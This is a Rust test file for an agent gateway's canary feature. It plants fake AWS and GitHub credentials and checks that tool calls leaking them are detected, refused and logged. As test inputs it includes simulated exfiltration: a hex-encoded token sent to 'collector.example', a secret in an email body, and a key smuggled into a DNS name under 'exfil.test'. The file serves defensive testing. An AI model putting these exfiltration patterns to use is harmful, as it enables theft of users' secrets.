use std::sync::Arc;

use gatewayd_core::{
    audit::{AuditLog, writer::AuditWriter},
    clock::SystemClock,
};

use super::*;
use crate::daemon::CanaryCheck as _;

/// Standard base64, padded.
fn base64(bytes: &[u8]) -> String {
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let b = [
            chunk[0],
            *chunk.get(1).unwrap_or(&0),
            *chunk.get(2).unwrap_or(&0),
        ];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(char::from(BASE64[((n >> (18 - 6 * i)) & 63) as usize]));
            } else {
                out.push('=');
            }
        }
    }
    out
}

fn env_only() -> Canaries {
    Canaries {
        env: true,
        file: None,
    }
}

#[test]
fn decoys_have_the_real_formats_and_are_new_each_session() {
    let a = Decoys::make(&env_only(), |_| false).unwrap();
    let b = Decoys::make(&env_only(), |_| false).unwrap();
    let get = |d: &Decoys, k: &str| {
        d.env()
            .iter()
            .find(|(n, _)| n == k)
            .map(|(_, v)| v.clone())
            .unwrap()
    };
    let id = get(&a, "AWS_ACCESS_KEY_ID");
    assert!(id.starts_with("AKIA") && id.len() == 20, "{id}");
    assert!(id[4..].bytes().all(|c| UPPER_BASE32.contains(&c)), "{id}");
    let secret = get(&a, "AWS_SECRET_ACCESS_KEY");
    assert_eq!(secret.len(), 40);
    assert!(secret.bytes().all(|c| BASE64.contains(&c)), "{secret}");
    let gh = get(&a, "GITHUB_TOKEN");
    assert!(gh.starts_with("ghp_") && gh.len() == 40, "{gh}");
    // The checksum: the last 6 characters are the CRC-32 of the 30 before, in base62.
    let sum = gh[34..].bytes().fold(0u64, |n, c| {
        n * 62 + BASE62.iter().position(|&x| x == c).unwrap() as u64
    });
    assert_eq!(sum, u64::from(crc32(&gh.as_bytes()[4..34])));
    assert_eq!(crc32(b"123456789"), 0xCBF4_3926, "the CRC-32 check value");
    for k in ENV_NAMES {
        assert_ne!(get(&a, k), get(&b, k), "fresh per session");
    }
}

#[test]
fn a_variable_the_agent_has_keeps_its_value_and_names_only_are_described() {
    let d = Decoys::make(&env_only(), |n| n == "GITHUB_TOKEN").unwrap();
    let names: Vec<&str> = d.env().iter().map(|(k, _)| k.as_str()).collect();
    assert_eq!(names, ["AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"]);
    let shown = d.describe().to_string();
    assert!(shown.contains("AWS_ACCESS_KEY_ID"), "{shown}");
    for (_, v) in d.env() {
        assert!(!shown.contains(v.as_str()), "no value in the description");
    }
}

#[test]
fn the_decoy_file_is_written_new_refused_when_it_exists_and_removed_at_the_end() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join(".aws/credentials");
    let c = Canaries {
        env: false,
        file: Some(file.clone()),
    };
    let d = Decoys::make(&c, |_| false).unwrap();
    assert!(d.env().is_empty());
    let text = std::fs::read_to_string(&file).unwrap();
    assert!(
        text.starts_with("[default]\naws_access_key_id = AKIA"),
        "{text}"
    );
    assert!(text.contains("\naws_secret_access_key = "), "{text}");
    let names: Vec<&str> = d.all.iter().map(|(k, _)| k.as_str()).collect();
    assert_eq!(names.len(), 2);
    assert!(
        names[0].ends_with(".aws/credentials:aws_access_key_id"),
        "{names:?}"
    );
    // A second session (or the user's own file) is refused, and the first's file kept.
    let e = Decoys::make(&c, |_| false).unwrap_err();
    assert!(e.contains("already exists"), "{e}");
    assert!(file.exists());
    drop(d);
    assert!(!file.exists());
    assert!(
        !dir.path().join(".aws").exists(),
        "the directory made for it goes too"
    );
}

fn alarm(dir: &Path) -> (CanaryAlarm, AuditWriter, Vec<(String, String)>, PathBuf) {
    let log = dir.join("audit.jsonl");
    let writer = AuditWriter::start(AuditLog::open(&log, Arc::new(SystemClock)).unwrap()).unwrap();
    let d = Decoys::make(&env_only(), |_| false).unwrap();
    let all = d.all.clone();
    let alarm = CanaryAlarm {
        set: SecretSet::new(&d.all),
        kernel: Mutex::new(None),
        audit: writer.handle(),
        session: "s1".into(),
        locked: AtomicBool::new(false),
    };
    (alarm, writer, all, log)
}

#[test]
fn a_decoy_is_found_plain_encoded_and_in_pieces_and_nothing_else_is() {
    let dir = tempfile::tempdir().unwrap();
    let (alarm, _w, all, _) = alarm(dir.path());
    let secret = &all[1].1;
    let b64 = base64(secret.as_bytes());
    let name = |t: &str| alarm.find(&[t]).and_then(|m| m.secret);
    assert_eq!(name(secret).as_deref(), Some("env:AWS_SECRET_ACCESS_KEY"));
    assert_eq!(
        name(&format!("x-data: {b64}")).as_deref(),
        Some("env:AWS_SECRET_ACCESS_KEY")
    );
    assert_eq!(
        name(&format!("token={}", &all[2].1[..20])).as_deref(),
        Some("env:GITHUB_TOKEN"),
        "half the token"
    );
    assert_eq!(
        name("GET /index.html HTTP/1.1\r\nHost: example.com\r\n"),
        None
    );
    assert_eq!(name("AKIA and ghp_ alone are no decoy"), None);
}

#[tokio::test]
async fn a_tool_call_with_a_decoy_is_refused_and_recorded_high_by_name_only() {
    let dir = tempfile::tempdir().unwrap();
    let (alarm, writer, all, log) = alarm(dir.path());
    let quiet = json!({"url": "https://example.com/?q=weather"});
    assert!(alarm.check("http_get", &quiet).await.is_none());
    let hex: String = all[2].1.bytes().map(|b| format!("{b:02x}")).collect();
    let call = json!({"url": format!("https://collector.example/?d={hex}")});
    let message = alarm.check("http_get", &call).await.unwrap();
    assert!(
        message.contains("env:GITHUB_TOKEN") && message.contains("Next:"),
        "{message}"
    );
    // A second hit: a second `canary` record, no second lockdown record.
    let again = json!({"body": all[0].1});
    assert!(alarm.check("send_mail", &again).await.is_some());
    writer.close().unwrap();
    let text = std::fs::read_to_string(&log).unwrap();
    for (_, v) in &all {
        assert!(!text.contains(v.as_str()), "no decoy value in the log");
    }
    let recs: Vec<Value> = text
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let canary: Vec<&Value> = recs.iter().filter(|r| r["reason"] == "canary").collect();
    assert_eq!(canary.len(), 2, "{recs:#?}");
    let r = canary[0];
    assert_eq!(r["decision"], "deny");
    assert_eq!(r["tool"], "http_get");
    assert_eq!(r["detail"]["severity"], "high");
    assert_eq!(r["detail"]["canary"], "env:GITHUB_TOKEN");
    assert_eq!(r["detail"]["route"], "tool_call");
    assert_eq!(r["detail"]["found_as"], "hex");
    // No kernel task here: the failed lockdown is said, not hidden.
    assert_eq!(r["detail"]["lockdown"], "the kernel layer has stopped");
    let lockdowns = recs
        .iter()
        .filter(|r| r["reason"] == "egress_lockdown" && r["detail"]["trigger"] == "canary")
        .count();
    assert_eq!(lockdowns, 1);
}

#[test]
fn a_decoy_in_a_name_is_found_and_scrubbed_in_any_case() {
    // The proxy reads a TLS server name in lower case, and a tunnel through DNS may send a
    // decoy so (an AWS key id loses nothing).
    let dir = tempfile::tempdir().unwrap();
    let (alarm, _w, all, _) = alarm(dir.path());
    let key_id = &all[0].1;
    let lower = format!("{}.exfil.test", key_id.to_ascii_lowercase());
    let found = |n: &str| alarm.find(&[n]).and_then(|m| m.secret);
    assert_eq!(found(&lower).as_deref(), Some("env:AWS_ACCESS_KEY_ID"));
    assert_eq!(found("api.example.com"), None);
    let shown = alarm.scrub(&lower);
    assert!(
        !shown.contains(&key_id.to_ascii_lowercase()) && shown.contains("exfil.test"),
        "{shown}"
    );
}
